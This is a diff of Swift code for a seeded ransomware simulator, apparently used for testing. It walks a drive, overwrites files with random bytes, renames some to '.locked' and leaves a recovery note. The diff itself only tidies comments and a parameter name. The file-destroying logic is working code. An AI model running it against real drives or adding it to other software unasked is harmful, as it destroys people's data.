@@ -3,7 +3,7 @@ import Glibc
 /// Damages a drive the way ransomware does, the same for the same seed: encrypts, renames, deletes,
 /// and leaves a note in each folder.
 public struct Ransomware: Sendable {
-    /// Repeats the choices.
+    /// The same seed makes the same choices.
     public var seed: UInt64
 
     /// What was done to a drive.
@@ -18,10 +18,9 @@ public struct Ransomware: Sendable {
         public var notes = 0
     }
 
-    /// The name of the note.
+    /// The name of the note in each folder.
     public static let noteName = "HOW TO GET YOUR FILES BACK.txt"
 
-    /// Prepares an attack.
     public init(seed: UInt64) {
         self.seed = seed
     }
@@ -40,7 +39,7 @@ public struct Ransomware: Sendable {
             let status = try PlainFiles.status(path)
             switch status.st_mode & S_IFMT {
             case S_IFDIR: try attack(path, &random, &damage)
-            case S_IFREG: try damageFile(path, name, size: Int(status.st_size), &random, &damage)
+            case S_IFREG: try damageFile(path, named: name, size: Int(status.st_size), &random, &damage)
             default: break
             }
         }
@@ -51,7 +50,7 @@ public struct Ransomware: Sendable {
     }
 
     private func damageFile(
-        _ path: [UInt8], _ name: [UInt8], size: Int, _ random: inout SeededGenerator, _ damage: inout Damage
+        _ path: [UInt8], named name: [UInt8], size: Int, _ random: inout SeededGenerator, _ damage: inout Damage
     ) throws {
         let choice = random.number(below: 4)
         if choice == 0 {
@@ -61,14 +60,13 @@ public struct Ransomware: Sendable {
         }
         try PlainFiles.setMode(path, 0o644)
         try PlainFiles.write(path, random.bytes(size + random.number(below: 64)))
-        let locked = name + Array(".locked".utf8)
-        // A name that is too long keeps its own, as it would for real ransomware.
-        if choice == 1 || locked.count > 255 {
+        let ending = Array(".locked".utf8)
+        // A file whose new name would be too long keeps its name, as with real ransomware.
+        if choice == 1 || (name + ending).count > 255 {
             damage.overwritten += 1
             return
         }
-        let newPath = path + Array(".locked".utf8)
-        try PlainFiles.check("rename", path) { unsafe rename(PlainFiles.c(path), PlainFiles.c(newPath)) }
+        try PlainFiles.check("rename", path) { unsafe rename(PlainFiles.c(path), PlainFiles.c(path + ending)) }
         damage.renamed += 1
     }
 }
